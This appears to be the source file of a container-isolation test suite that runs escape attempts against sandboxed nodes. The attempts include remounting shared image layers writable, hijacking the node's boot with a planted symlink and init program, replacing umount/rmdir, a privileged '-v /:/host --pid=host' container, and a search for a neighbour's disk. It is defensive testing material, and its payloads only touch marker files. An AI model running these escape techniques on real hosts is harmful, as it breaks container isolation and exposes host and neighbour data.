/** Attacks by mounts: on the images that all nodes share, on the container that a node began as, on files of the host. */
import { readFileSync } from 'node:fs'
import path from 'node:path'
import type { Attack, Attempt, Theme } from './attack.ts'
import { bootsWith, hostFolder, imagesByEngine, oldRootKept } from './weaknesses.ts'
import { createPlace, fromNode, type Place, type World } from './world.ts'

/** A file of the attacker's own, and out of the way at once. */
const touch = (folder: string) =>
  `touch ${folder}/drydock-attack && rm ${folder}/drydock-attack && echo "ESCAPED ${folder}"`

const writeImages = `
layer=$(ls -d /golden/overlay2/*/diff | head -n 1)
below() { # the same folder under another mount
  mkdir -p /dev/shm/at && mount --bind /golden /dev/shm/at && mount -o remount,bind,rw /dev/shm/at
  ${touch('/dev/shm/at${layer#/golden}')}
  umount /dev/shm/at
}
${touch('$layer')}
below
export -f below
unshare -m bash -c 'layer='$layer'; below'
unshare -Urm bash -c 'layer='$layer'; below'
mount -o remount,rw /golden; mount -o remount,bind,rw /golden
${touch('$layer')}`

/** Tries the root of the container that the node began as, under every name that may be left of it. */
const writeOldRoot = `
for root in /.old /old /proc/1/root /proc/1/cwd /proc/[0-9]*/root /proc/[0-9]*/cwd; do
  [ -e $root/usr/lib/drydock/boot ] && ! [ $root -ef / ] || continue
  mount -o remount,bind,rw $root
  ${touch('$root')}
done`

/** An attack over a restart: plants something in a node, has it started anew, and looks at what came of it. */
function overRestart(
  world: World,
  attack: Pick<Attack, 'name' | 'tries' | 'why'> & {
    weakness: ReturnType<typeof bootsWith>
    plant: string
    judge(place: Place): Promise<Attempt>
  },
): Attack {
  const { weakness, plant, judge, ...rest } = attack
  const run = async (place: Place): Promise<Attempt> => {
    await place.shell(plant)
    // A node whose start was taken over does not become ready.
    const again = await world.nodes.restart(place).catch(() => place)
    return judge(createPlace(again))
  }
  return {
    ...rest,
    limit_ms: 60_000,
    without: weakness.without,
    control: async () => run(createPlace(await world.nodes.startWeak(weakness))),
    attempt: async () => run(createPlace(await world.nodes.start())),
  }
}

export const mounts = (world: World): Theme => {
  const boot = readFileSync(path.join(world.instance.root, 'infra/images/node/files/usr/lib/drydock/boot'), 'utf8')
  return {
    title: 'Mounts and file systems',
    attacks: [
      fromNode(world, {
        name: 'shared images',
        tries:
          "The node's root makes the images that all nodes share writable: by remounting, by another bind, from nested namespaces.",
        why: 'They are read-only by a mount of the host, which a user namespace cannot loosen.',
        weakness: imagesByEngine(world.scratch('images', 'overlay2/layer/diff/usr/bin/file')),
        run: (place) => place.shell(writeImages),
      }),
      overRestart(world, {
        name: 'links in the way of the boot',
        tries:
          "The learner leaves a link where the next start mounts something, so that their own program takes the place of the start's while the container's root can be reached.",
        why: 'The start makes real folders of all that it mounts on.',
        weakness: bootsWith(
          'the look for links at the start',
          boot.replace(/^for folder in .*own_folder.*$/m, 'mkdir -p $root/golden $root/var/lib/docker'),
        ),
        plant: `cat > /var/lib/docker/init <<'PROGRAM'
#!/bin/sh
exec > /node/upper/root/proof
mount -o remount,bind,rw /
${touch('')}
exit 1
PROGRAM
chmod 755 /var/lib/docker/init
touch /var/lib/docker/resolv.conf
service docker stop
cd / && umount -l /var/lib/docker && rmdir /var/lib/docker && ln -s /usr/lib/drydock /var/lib/docker`,
        async judge(place) {
          let proof = ''
          try {
            proof = readFileSync(path.join(place.disk, 'upper/root/proof'), 'utf8')
          } catch {
            // nothing of the learner's ran
          }
          return { succeeded: proof.includes('ESCAPED'), said: proof }
        },
      }),
      overRestart(world, {
        name: 'replaced tools at the start',
        tries:
          'The learner replaces the tools that let go of the old root at a start, and then writes to that root, which lies on the disk of the host.',
        why: 'A program without libraries lets go of it before anything of the learner runs.',
        weakness: bootsWith(
          'the program that enters the new root',
          boot.replace(/^exec .*init --enter.*$/m, oldRootKept),
        ),
        plant: `for tool in umount rmdir; do printf '#!/bin/sh\\nexit 0\\n' > /usr/bin/$tool; chmod 755 /usr/bin/$tool; done`,
        judge: (place) => place.shell(writeOldRoot),
      }),
      fromNode(world, {
        name: 'files of the host',
        tries:
          'A container that has all of the node bound in and sees its processes (-v /:/host --pid=host) looks for a file of the host.',
        why: 'What a container can have of its host is what the node has: its own disk and the shared images.',
        weakness: hostFolder('a folder of the host', () => world.scratch('secret', 'secret-of-the-host')),
        limit_ms: 60_000,
        run: (place) =>
          place.inContainer(
            '-v /:/host --pid=host --cap-add SYS_ADMIN',
            'find /host /proc/[0-9]*/root -xdev -name golden -prune -o -name secret-of-the-host -print 2>/dev/null | grep . && echo ESCAPED; find /host/dev -name secret-of-the-host | grep . && echo ESCAPED',
            { timeout_ms: 50_000 },
          ),
      }),
      fromNode(world, {
        name: "a neighbour's disk",
        tries: "The node's root looks for the disks of other nodes, whose files belong to the very same user ids.",
        why: "A node's mount namespace holds its own disk alone, and the folder of all disks is not in it.",
        weakness: hostFolder("a neighbour's disk", async () => (await world.neighbour()).disk),
        async run(place) {
          const { node } = await world.neighbour()
          await node.exec(['sh', '-c', 'echo mine > /root/secret-of-a-neighbour'], { cwd: '/' })
          return place.shell(`
found=$(find / -path /proc -prune -o -name secret-of-a-neighbour -print 2>/dev/null | head -n 1)
[ -n "$found" ] && grep mine $found && echo ESCAPED`)
        },
      }),
    ],
    unproven: [
      {
        name: "a working folder in the host's files (runc, CVE-2024-21626)",
        reason: 'the runc of this host is mended',
      },
    ],
  }
}
